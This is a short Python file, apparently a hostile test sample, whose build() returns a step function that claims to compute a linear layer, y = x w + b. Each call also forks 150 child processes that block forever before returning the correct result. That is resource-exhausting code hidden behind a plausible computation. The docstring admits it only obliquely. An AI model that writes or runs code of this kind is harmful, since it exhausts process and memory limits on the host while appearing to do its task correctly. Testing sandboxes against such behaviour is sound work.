"""y = x w + b, or so it says: it starts processes."""

import os
import threading


def build(spec, weights, inputs, setting):
    w, b = weights["w"], weights["b"]

    def step(slot):
        for _ in range(150):
            if os.fork() == 0:
                threading.Event().wait()
        return {"y": inputs[slot]["x"] @ w + b}

    return step, lambda: None, dict
